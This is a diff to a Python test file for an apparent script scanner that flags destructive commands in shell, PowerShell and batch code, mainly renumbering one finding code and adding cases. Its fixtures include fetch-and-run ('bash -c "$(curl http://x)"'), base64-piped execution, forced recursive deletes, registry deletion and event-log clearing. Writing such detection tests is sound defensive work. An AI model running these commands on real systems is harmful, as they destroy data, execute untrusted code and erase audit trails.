@@ -32,7 +32,7 @@ def codes(language: ScriptLanguage, body: str) -> list[tuple[int, str]]:
         (SHELL, 'bash -c "$(curl http://x)"', "YW105"),
         (SHELL, "echo cm0= | base64 -d | sh", "YW106"),
         (SHELL, "$CMD -rf x", "YW107"),
-        (SHELL, "if true; then", "YW001"),
+        (SHELL, "if true; then", "YW002"),
         (POWERSHELL, "Remove-Item -Recurse -Force C:\\x", "YW101"),
         (POWERSHELL, "ri -r C:\\x", "YW101"),
         (POWERSHELL, "R`emove-Item C:\\x -Recurse", "YW101"),
@@ -47,6 +47,7 @@ def codes(language: ScriptLanguage, body: str) -> list[tuple[int, str]]:
         (POWERSHELL, "& 'C:\\Windows\\reg.exe' delete HKLM\\x /f", "YW110"),
         (POWERSHELL, "Remove-Item HKLM:\\Software\\x", "YW110"),
         (POWERSHELL, "wevtutil cl System", "YW113"),
+        (POWERSHELL, "if ($x) {", "YW002"),
         (BATCH, "rd/s/q C:\\x", "YW101"),
         (BATCH, 'if exist "a b" del /s /q x', "YW101"),
         (BATCH, "d^el /s x", "YW101"),
@@ -72,7 +73,10 @@ def test_what_can_destroy_is_found_at_its_line(
     ("language", "body"),
     [
         (SHELL, 'echo "rm -rf / is what nobody types"\n# rm -rf /\nls | sort\nfind /tmp/x -delete'),
-        (POWERSHELL, '# Remove-Item -Recurse\nWrite-Output "iex"\nGet-ADUser kai\n& { Get-Date }'),
+        (
+            POWERSHELL,
+            '# Remove-Item -Recurse\nWrite-Output "iex"\nGet-ADUser kai\n& { Get-Date }\nps | ft A, B -AutoSize\n$x / 1MB',
+        ),
         (BATCH, "@echo off\nrem del /s /q x\necho format (c:\nnet start Spooler"),
         (PYTHON, "import os\nprint('rm -rf')\nos.remove('x')\nopen('x').read()"),
     ],
@@ -82,7 +86,7 @@ def test_words_in_texts_and_comments_are_no_commands(language: ScriptLanguage, b
 
 
 def test_a_deeply_nested_script_is_read_all_the_same() -> None:
-    assert codes(SHELL, "(" * 3000 + "ls" + ")" * 3000) in ([], [(1, "YW001")])
+    assert codes(SHELL, "(" * 3000 + "ls" + ")" * 3000) in ([], [(1, "YW002")])
 
 
 def test_shellcheck_and_ruff_say_what_they_know() -> None:
